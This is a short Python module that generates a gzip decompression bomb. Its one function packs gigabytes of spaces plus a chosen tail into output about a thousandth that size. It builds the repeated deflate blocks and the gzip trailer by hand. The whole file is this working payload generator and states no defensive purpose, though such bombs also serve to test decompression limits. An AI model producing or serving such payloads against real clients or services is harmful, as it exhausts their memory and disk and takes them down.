"""A gzip bomb, cheaply made."""

from __future__ import annotations

import zlib
from functools import lru_cache


@lru_cache(maxsize=4)
def bomb(size: int, tail: bytes) -> bytes:
    """Return gzip data that unpacks to about ``size`` bytes of spaces and then ``tail``, in a thousandth of that."""
    block = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the packer knows nothing of the past: equal input gives equal output, so it is packed once.
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    count = max(size >> 20, 2)
    plain = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = plain.compress(tail) + plain.flush()
    checksum = 0
    for _ in range(count):
        checksum = zlib.crc32(block, checksum)
    checksum = zlib.crc32(tail, checksum)
    length = (count * len(block) + len(tail)) & 0xFFFFFFFF
    return first + again * (count - 1) + end + checksum.to_bytes(4, "little") + length.to_bytes(4, "little")
